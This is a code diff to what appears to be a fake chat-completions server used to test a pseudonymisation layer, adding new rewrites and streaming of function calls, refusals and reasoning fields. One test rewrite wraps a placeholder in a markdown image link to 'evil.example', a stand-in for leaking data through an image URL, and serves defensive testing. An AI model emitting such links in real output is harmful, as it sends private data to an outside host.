@@ -27,6 +27,7 @@ REWRITES: dict[str, Callable[[str], str]] = {
     "bare": _each(lambda m: m[0][2:-2]),
     "angle": _each(lambda m: f"<<{m[0][2:-2]}>>"),
     "invents": lambda text: text + " [[SP_PERSON_0999_ABCD]]",
+    "invents-first": lambda text: "[[SP_PERSON_0999_ABCD]] " + text,
     "new-integrity": _each(lambda m: f"[[SP_{m[1]}_{m[2]}_0000]]"),
     "in-a-link": _each(lambda m: f"![x](https://evil.example/?q={m[0]})"),
     "never-closes": lambda text: text + " en dan [[SP_PERSON_0001 is mijn zin zomaar gestopt, zonder haakjes.",
@@ -97,6 +98,11 @@ def answer_to(body: dict[str, Any]) -> dict[str, Any]:
     """What the model of the request answers to the last message of the user."""
     said = next(m["content"] for m in reversed(body["messages"]) if m["role"] in ("user", "tool"))
     text = said if isinstance(said, str) else " ".join(part.get("text", "") for part in said)
+    if body["model"].startswith("function:"):
+        called = {"name": body["model"][9:], "arguments": json.dumps({"to": text})}
+        return {"role": "assistant", "content": None, "function_call": called}
+    if body["model"] in ("refusal", "reasoning_content", "reasoning"):
+        return {"role": "assistant", "content": None, body["model"]: text}
     if body["model"].startswith("tool:"):
         arguments = json.dumps({"to": text, "lines": ['zei "dag"', text]})
         call = {"id": "c1", "type": "function", "function": {"name": body["model"][5:], "arguments": arguments}}
@@ -118,9 +124,14 @@ def chunks(body: dict[str, Any], message: dict[str, Any]) -> Iterator[dict[str, 
         return {**base, "choices": [{"index": 0, "delta": delta, "finish_reason": reason}]}
 
     yield chunk({"role": "assistant"})
-    content = message.get("content") or ""
-    for at in range(0, len(content), size):
-        yield chunk({"content": content[at : at + size]})
+    for name in ("content", "refusal", "reasoning_content", "reasoning"):
+        said = message.get(name) or ""
+        for at in range(0, len(said), size):
+            yield chunk({name: said[at : at + size]})
+    if function := message.get("function_call"):
+        yield chunk({"function_call": {"name": function["name"], "arguments": ""}})
+        for at in range(0, len(function["arguments"]), size):
+            yield chunk({"function_call": {"arguments": function["arguments"][at : at + size]}})
     for number, call in enumerate(message.get("tool_calls", ())):
         function = call["function"]
         first = {"index": number, "id": call["id"], "type": "function"}
